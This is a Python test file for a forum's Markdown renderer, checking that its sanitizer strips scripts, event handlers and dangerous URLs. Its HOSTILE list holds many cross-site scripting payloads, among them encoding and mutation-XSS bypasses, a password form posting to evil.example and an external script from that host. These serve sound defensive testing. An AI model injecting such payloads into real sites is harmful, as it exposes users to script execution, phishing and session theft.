"""render_markdown: useful Markdown survives, nothing executable does."""
import re
from html.parser import HTMLParser

import pytest

from forum.markup import render_markdown

HOSTILE = [
    # script tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "text <script\n>alert(1)</script\n> more",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="/attachments/1/a.png" onload="alert(1)">',
    "<p onclick=alert(1)>klik</p>",
    "<a href='https://coi.dk' onmouseover='alert(1)'>hover</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    # javascript:, data:, vbscript: links in Markdown
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt:alert(1))",
    "[klik](  javascript:alert(1))",
    "[klik](javascript&#58;alert(1))",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[klik](vbscript:msgbox(1))",
    "![billede](javascript:alert(1))",
    "[ref][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    # ... and in raw HTML
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\0script:alert(1)">x</a>',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    # mutation XSS
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    # style, iframes, forms, objects, meta
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<style>body{background:url('javascript:alert(1)')}</style>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example"><input name=password><button>OK</button></form>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    # attributes that could help an attack or track
    '<img src="https://tracker.example/pixel.gif">',
    '<img src="//tracker.example/pixel.gif">',
    '![x](https://tracker.example/pixel.gif)',
    '<a href="https://coi.dk" target="_blank" id="login" class="button" name="x">x</a>',
    '<div data-x="1" aria-hidden="true" title="t">x</div>',
    '```html\n<script>alert(1)</script>\n```',
    "`<img src=x onerror=alert(1)>`",
]

ALLOWED_TAGS = {"a", "abbr", "b", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6",
                "hr", "i", "img", "li", "ol", "p", "pre", "s", "strong", "sub", "sup", "table", "tbody", "td",
                "th", "thead", "tr", "ul"}
ALLOWED_ATTRIBUTES = {"href", "title", "src", "alt", "class", "start", "align", "rel"}
SAFE_URL = ("http://", "https://", "mailto:", "/attachments/")


class Elements(HTMLParser):
    """Every start tag with its attributes, as a browser would read them."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.elements = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_executable_survives(source):
    html = render_markdown(source)
    for tag, attributes in Elements(html).elements:
        assert tag in ALLOWED_TAGS, html
        for name, value in attributes.items():
            assert name in ALLOWED_ATTRIBUTES and not name.startswith("on"), html
            if name in ("href", "src"):
                url = "".join((value or "").split()).lower()
                assert url.startswith(SAFE_URL), html
                if name == "src":
                    assert tag == "img" and url.startswith("/attachments/"), html


@pytest.mark.parametrize("source", HOSTILE)
def test_no_raw_markup_outside_tags(source):
    """What is left of an attack is text: its angle brackets are escaped."""
    html = render_markdown(source)
    text_only = re.sub(r"<(/?)({})\b[^<>]*>".format("|".join(ALLOWED_TAGS)), "", html)
    assert "<" not in text_only, html


def test_images_only_from_our_attachments():
    assert 'src="/attachments/3/plan.png"' in render_markdown("![plan](/attachments/3/plan.png)")
    assert "tracker" not in render_markdown("![x](https://tracker.example/pixel.gif)")
    assert "evil" not in render_markdown("![x](//evil.example/attachments/x.png)")


def test_links_get_rel_and_bare_urls_become_links():
    html = render_markdown("Se https://coi.dk/spredning og [guiden](https://coi.dk/guide).")
    assert html.count('rel="nofollow noopener noreferrer"') == 2
    assert '<a href="https://coi.dk/spredning"' in html


def test_mail_links_allowed():
    assert 'href="mailto:majken@coi.dk"' in render_markdown("[Skriv](mailto:majken@coi.dk)")


def test_ordinary_markdown_survives():
    source = (
        "## Erfaringer\n\n**Fed** og *kursiv*, `kode`.\n\n"
        "1. Første\n2. Anden\n\n- punkt\n- punkt\n\n> Citat\n\n"
        "| Kommune | Borgere |\n|:--|--:|\n| Vejle | 120 |\n\n"
        "```python\nprint('hej')\n```\n"
    )
    html = render_markdown(source)
    for fragment in ("<h2>Erfaringer</h2>", "<strong>Fed</strong>", "<em>kursiv</em>", "<code>kode</code>",
                     "<ol>", "<ul>", "<blockquote>", "<table>", '<td align="right">120</td>',
                     '<code class="language-python">'):
        assert fragment in html, (fragment, html)


def test_code_is_shown_as_text():
    html = render_markdown("`<script>alert(1)</script>`")
    assert "&lt;script&gt;" in html


def test_danish_text_and_entities_pass():
    html = render_markdown("Æbler, øl & ål <3 – \"citat\"")
    assert "Æbler, øl &amp; ål &lt;3" in html


def test_mentions_hook_is_sanitized_again():
    html = render_markdown("Hej @bo", mentions=lambda text: text.replace(
        "@bo", '<a href="/members/2">@bo</a><img src=x onerror=alert(1)>'))
    assert '<a href="/members/2" rel="nofollow noopener noreferrer">@bo</a>' in html
    assert "onerror" not in html


def test_default_has_no_mentions():
    assert render_markdown("Hej @bo") == "<p>Hej @bo</p>"


def test_empty_and_huge_input():
    assert render_markdown("") == ""
    assert render_markdown(None) == ""  # type: ignore[arg-type]
    assert render_markdown("a " * 20000).startswith("<p>")
